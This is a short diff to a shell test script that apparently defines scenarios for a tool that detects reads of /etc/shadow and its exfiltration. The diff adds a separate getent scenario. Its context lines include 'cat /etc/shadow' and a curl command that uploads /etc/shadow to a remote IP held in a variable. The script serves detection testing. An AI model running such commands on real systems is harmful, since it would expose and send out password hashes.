@@ -59,7 +59,10 @@ scenario hashes_read "cat shows /etc/shadow" shadow_read
 hashes_read() { cat /etc/shadow; }
 
 scenario hashes_used "programs that check passwords read the hashes"
-hashes_used() { passwd -S guest; chage -l guest; su guest -c true; getent shadow guest; true; }
+hashes_used() { passwd -S guest; chage -l guest; su guest -c true; true; }
+
+scenario hashes_listed "getent shows the hashes" shadow_read
+hashes_listed() { getent shadow guest; }
 
 scenario hashes_uploaded "curl uploads /etc/shadow" shadow_read shadow_sent_away
 hashes_uploaded() { curl -sm 5 -T /etc/shadow "http://$far_ip/"; true; }
